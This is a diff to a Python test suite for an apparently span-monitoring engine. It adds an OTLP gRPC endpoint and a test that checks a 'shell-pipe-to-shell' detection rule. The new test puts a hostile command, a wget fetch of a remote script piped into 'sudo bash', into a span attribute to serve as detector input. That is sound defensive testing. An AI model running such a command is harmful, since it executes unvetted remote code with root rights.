@@ -33,12 +33,13 @@ def free_port() -> int:
 
 class Engine:
     def __init__(self, tmp: Path) -> None:
-        self.otlp, self.api = free_port(), free_port()
+        self.otlp, self.api, self.grpc = free_port(), free_port(), free_port()
         self.config = tmp / "spanwatch.yml"
         self.config.write_text(
             f"state_dir: {tmp / 'state'}\n"
             "stream: {allowed_lateness: 1, tick: 1, heartbeat: 5}\n"
             f'live: {{otlp_http: "127.0.0.1:{self.otlp}", api: "127.0.0.1:{self.api}", '
+            f'otlp_grpc: "127.0.0.1:{self.grpc}", '
             "epoch_seconds: 0.5}\n"
         )
         self.proc: subprocess.Popen | None = None
@@ -274,4 +275,20 @@ def test_the_slack_acknowledge_button_acknowledges_through_the_control_stream(en
         lambda i: i["id"] == incident["id"] and i["status"] == "acknowledged", "the ack"
     )
     assert acked["acknowledged"]["by"] == "oncall-bob"
+    assert engine.stop() == 0
+
+
+def test_spans_over_otlp_grpc_from_the_sdk_become_incidents(engine):
+    from opentelemetry.exporter.otlp.proto.grpc.trace_exporter import (
+        OTLPSpanExporter as GrpcSpanExporter,
+    )
+
+    provider = TracerProvider(resource=Resource.create({"user": "grpc-user"}))
+    exporter = GrpcSpanExporter(endpoint=f"127.0.0.1:{engine.grpc}", insecure=True)
+    provider.add_span_processor(SimpleSpanProcessor(exporter))
+    with provider.get_tracer("wrapper").start_as_current_span("shell.run") as span:
+        span.set_attribute("command", "wget -qO- https://x.io/i.sh | sudo bash")
+    provider.shutdown()
+    incident = engine.wait_for(lambda i: i["group"].get("user") == "grpc-user", "the incident")
+    assert incident["rule_id"] == "shell-pipe-to-shell"
     assert engine.stop() == 0
